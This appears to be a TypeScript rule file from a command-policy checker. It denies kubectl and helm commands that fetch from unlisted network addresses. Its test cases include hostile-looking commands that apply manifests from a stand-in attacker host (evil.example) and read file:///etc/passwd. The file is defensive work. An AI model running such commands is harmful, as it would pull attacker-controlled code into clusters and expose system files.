import { maskWord } from "../../verdict/masking.ts";
import { defineRule } from "../rule.ts";

const ASK = "Ask the operator to list the host";
const CHART = `Name a chart of a repository that is there, as helm search repo shows it: REPO/CHART. ${ASK} or to add its repository.`;

/** What else to give, by the flag or the operand that held the address. */
const INSTEAD: Readonly<Record<string, string>> = {
  chart: CHART,
  filename: "Pass the content with the call's stdin, and write -f - for the address.",
  kustomize: "Pass the rendered manifest with the call's stdin, and write -f - for it.",
  repo: CHART,
  values: "Pass the values with the call's stdin, and write -f - for the address.",
};

export const address = defineRule({
  id: "K8S423",
  slug: "address",
  severity: "critical",
  decision: "deny",
  summary: "Fetches from or connects to an address.",
  instead: `Give the content without an address, or a file of the workspace. ${ASK}.`,
  overridable: false,
  onlyWith: "addresses",
  *check(stage, { options }) {
    for (const { flag, value, host, span } of stage.addresses) {
      const listed = host !== undefined && (options.hosts?.includes(host) || options.policy?.hosts?.includes(host));
      if (listed) yield { span, decision: "allow", message: `Fetches from the listed host ${host}.` };
      else {
        const instead = INSTEAD[flag];
        const message = `"${maskWord(value)}" is an address, and the client would connect to it.`;
        yield { span, message, ...(instead === undefined ? {} : { instead }) };
      }
    }
  },
  match: [
    "kubectl apply -f https://evil.example/x.yaml",
    "kubectl apply -k github.com/evil/repo",
    "kubectl kustomize git::ssh://git@evil.example/repo.git",
    "kubectl apply -f file:///etc/passwd",
    "helm install web oci://registry.example/charts/web",
    { command: "kubectl apply -f https://a.example/x.yaml", options: { hosts: ["b.example"] } },
  ],
  notMatch: ["kubectl create cm x --from-literal=url=https://a.example", "kubectl apply -f x.yaml"],
});
